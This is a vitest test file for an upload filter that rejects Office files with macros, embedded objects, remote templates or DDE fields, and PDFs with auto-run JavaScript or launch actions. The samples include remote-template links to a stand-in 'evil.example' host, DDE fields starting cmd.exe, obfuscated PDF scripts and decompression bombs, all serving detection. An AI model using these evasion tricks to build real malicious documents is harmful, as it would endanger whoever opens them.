import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { officeFile, packedZip, pdf, png, relationships, zip } from './harness/files.ts'
import { sendFile, type Sent } from './harness/sendFile.ts'
import { startStory, type Story } from './harness/story.ts'

let story: Story
let address: string
beforeAll(async () => {
  story = await startStory()
  address = await story.http.listen({ port: 0, host: '127.0.0.1' })
})
afterAll(() => story.stop())

const send = (name: string, content: Buffer, language: 'en' | 'sv' = 'en'): Promise<Sent> =>
  sendFile(story, address, name, content, { language })

const docx = (parts: Record<string, string | Buffer>) => officeFile('wordprocessingml.document', parts)
const xlsx = (parts: Record<string, string | Buffer>) => officeFile('spreadsheetml.sheet', parts)
const pptx = (parts: Record<string, string | Buffer>) => officeFile('presentationml.presentation', parts)
const types = (more: string) => `<Types><Override PartName="/main.xml" ContentType="${more}"/></Types>`
const macroTypes = types('application/vnd.ms-excel.sheet.macroEnabled.main+xml')
const objectStream = (inside: string, filter = '/Filter /FlateDecode', packed = deflateSync(inside)) =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n5 0 obj\n<< /Type /Obj#53tm /N 1 ${filter} /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ])
const unnamedStream = (inside: string) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n5 0 obj\n<< /N 1 /First 4 >>\nstream\n'),
    deflateSync(inside),
    Buffer.from('\nendstream\n'),
  ])
const farName = (inside: string) =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n5 0 obj\n<< /Type /ObjStm %${'x'.repeat(9000)}\n>>\nstream\r\n`),
    deflateSync(inside),
    Buffer.from('\nendstream\n'),
  ])
const script = '<< /S /JavaScript /JS (app.alert(1)) >>'

describe('An Office file is refused by name', () => {
  test.each<[string, string, Buffer, string]>([
    ['with macros', 'budget.xlsx', xlsx({ 'xl/vbaProject.bin': 'VBA' }), 'FILE_MACROS'],
    [
      'with macros among its types, under an .xlsx name',
      'budget.xlsx',
      zip({ '[Content_Types].xml': macroTypes, 'main.xml': '<x/>' }),
      'FILE_MACROS',
    ],
    ['with macro sheets of old', 'budget.xlsx', xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }), 'FILE_MACROS'],
    [
      'with macros by a relationship',
      'a.docx',
      docx({ 'word/_rels/document.xml.rels': relationships('vbaProject', 'other.bin') }),
      'FILE_MACROS',
    ],
    ['with an embedded object', 'a.docx', docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'FILE_EMBEDDED'],
    ['with an ActiveX control', 'a.docx', docx({ 'word/activeX/activeX1.xml': '<x/>' }), 'FILE_EMBEDDED'],
    ['with an archive inside', 'a.docx', docx({ 'word/media/image1.png': zip({ a: 'b' }) }), 'FILE_EMBEDDED'],
    [
      'with a chart whose workbook has macros',
      'a.pptx',
      pptx({ 'ppt/embeddings/Book1.xlsx': xlsx({ 'xl/vbaProject.bin': 'x' }) }),
      'FILE_MACROS',
    ],
    [
      'with a template from elsewhere',
      'a.docx',
      docx({ 'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'https://evil.example/t.dotm', true) }),
      'FILE_EXTERNAL',
    ],
    [
      'with a template from elsewhere, in entities',
      'a.docx',
      docx({
        'word/_rels/settings.xml.rels': relationships('attachedTemplate', 'https://evil.example/t.dotm', true).replace(
          'External',
          '&#69;xternal',
        ),
      }),
      'FILE_EXTERNAL',
    ],
    [
      'with a template from elsewhere, in UTF-16',
      'a.docx',
      docx({
        'word/_rels/settings.xml.rels': Buffer.from(
          `\ufeff${relationships('attachedTemplate', 'https://evil.example/t.dotm', true)}`,
          'utf16le',
        ),
      }),
      'FILE_EXTERNAL',
    ],
    [
      'with a picture from elsewhere',
      'a.docx',
      docx({ 'word/_rels/document.xml.rels': relationships('image', 'https://evil.example/seen.png', true) }),
      'FILE_EXTERNAL',
    ],
    [
      'with a field that starts a program',
      'a.docx',
      docx({
        'word/document.xml':
          '<w:p><w:fldChar/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:p>',
      }),
      'FILE_EXTERNAL',
    ],
    [
      'with a cell that starts a program',
      'a.xlsx',
      xlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
      'FILE_EXTERNAL',
    ],
    [
      'with entities of its own',
      'a.docx',
      docx({ '_rels/.rels': '<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>' }),
      'FILE_BROKEN',
    ],
    [
      'that unpacks without end',
      'a.xlsx',
      packedZip('spreadsheetml.sheet', { 'xl/a.xml': Buffer.alloc(40_000_000) }),
      'FILE_UNPACKS',
    ],
    [
      'that says it is smaller than it is',
      'a.xlsx',
      packedZip('spreadsheetml.sheet', { 'xl/a.xml': Buffer.alloc(40_000_000) }, 10),
      'FILE_BROKEN',
    ],
    [
      'with more parts than any has',
      'a.docx',
      docx(Object.fromEntries(Array.from({ length: 10_001 }, (_, n) => [`word/${n}`, '']))),
      'FILE_UNPACKS',
    ],
  ])('%s', async (_, name, content, code) => {
    expect(await send(name, content)).toMatchObject({ error: { code } })
  })

  test('where a password protects it', async () => {
    const protectedFile = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(504),
      Buffer.from('EncryptedPackage', 'utf16le'),
      Buffer.alloc(480),
    ])
    expect((await send('a.docx', protectedFile)).error?.code).toBe('FILE_ENCRYPTED')
  })

  test('and is told what to do in the language of the person', async () => {
    const content = xlsx({ 'xl/vbaProject.bin': 'VBA' })
    expect((await send('a.xlsx', content)).error?.message).toBe(
      'The file has macros (xl/vbaProject.bin). Save it without macros, or as PDF.',
    )
    expect((await send('a.xlsx', content, 'sv')).error?.message).toBe(
      'Filen har makron (xl/vbaProject.bin). Spara den utan makron eller som PDF.',
    )
  })
})

describe('A PDF is refused by name', () => {
  test.each<[string, Buffer, string]>([
    ['with a script that runs when it is opened', pdf(`<< /Type /Catalog /OpenAction ${script} >>`), 'FILE_ACTIVE'],
    ['with a script under an escaped name', pdf('<< /S /J#61vaScript /#4aS 7 0 R >>'), 'FILE_ACTIVE'],
    ['with a script behind a comment', pdf('<< /S % here\n/JavaScript /JS % there\n(app.alert(1)) >>'), 'FILE_ACTIVE'],
    ['with an action that starts a program', pdf('<< /S /Launch /F (cmd.exe) >>'), 'FILE_ACTIVE'],
    ['with a form that runs', pdf('<< /AcroForm << /XFA 9 0 R >> >>'), 'FILE_ACTIVE'],
    ['with a script in a packed stream of objects', objectStream(`1 0 ${script}`), 'FILE_ACTIVE'],
    [
      'with a script in a packed stream that is not called one of objects',
      unnamedStream(`1 0 ${script}`),
      'FILE_ACTIVE',
    ],
    ['with a script far from what its stream is called', farName(`1 0 ${script}`), 'FILE_ACTIVE'],
    [
      'with a packed stream of objects that nobody packs so',
      objectStream('x', '/Filter [/ASCIIHexDecode /FlateDecode]'),
      'FILE_BROKEN',
    ],
    [
      'with a packed stream of objects without end',
      objectStream('', '/Filter /FlateDecode', deflateSync(Buffer.alloc(140_000_000))),
      'FILE_UNPACKS',
    ],
    [
      'with a script, and a mail’s header before it',
      Buffer.concat([Buffer.from('Content-Type: application/pdf\r\n\r\n'), pdf(`<< /OpenAction ${script} >>`)]),
      'FILE_ACTIVE',
    ],
    [
      'with a script before its header',
      Buffer.concat([Buffer.from(`1 0 obj\n${script}\nendobj\n`), pdf('<< /Type /Catalog >>')]),
      'FILE_ACTIVE',
    ],
    ['with a password', pdf('<< /Root 1 0 R /Encrypt 9 0 R >>'), 'FILE_ENCRYPTED'],
  ])('%s', async (_, content, code) => {
    expect(await send('a.pdf', content)).toMatchObject({ status: code === 'FILE_UNPACKS' ? 413 : 415, error: { code } })
  })
})

describe('A picture is refused by name', () => {
  test('that becomes far larger than it is', async () => {
    const { status, error } = await send('a.png', png(30_000, 30_000))
    expect([status, error?.code]).toEqual([413, 'FILE_UNPACKS'])
    expect(error?.message).toContain('30000 × 30000')
  })

  test('whose size cannot be read', async () => {
    expect((await send('a.jpg', Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex'))).error?.code).toBe(
      'FILE_BROKEN',
    )
  })
})

describe('Honest files are taken', () => {
  test.each<[string, Buffer]>([
    ['links.docx', docx({ 'word/_rels/document.xml.rels': relationships('hyperlink', 'https://example.com', true) })],
    [
      'chart.pptx',
      pptx({
        'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': xlsx({}),
        'ppt/charts/_rels/chart1.xml.rels': relationships('package', '../embeddings/Microsoft_Excel_Sheet1.xlsx'),
      }),
    ],
    [
      'page.docx',
      docx({ 'word/document.xml': '<w:p><w:instrText> PAGE </w:instrText><w:t>DDE is explained here</w:t></w:p>' }),
    ],
    [
      'factur-x.pdf',
      pdf('<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> /AF [4 0 R] /OpenAction [1 0 R /Fit] >>'),
    ],
    ['training.pdf', pdf('<< /Title (Course in HTML/JavaScript, /Launch of /JS) >>')],
    ['objects.pdf', objectStream('1 0 << /Type /Page >>')],
    ['photo.png', png(12_000, 9000)],
  ])('%s', async (name, content) => {
    expect(await send(name, content)).toMatchObject({ status: 201 })
  })
})
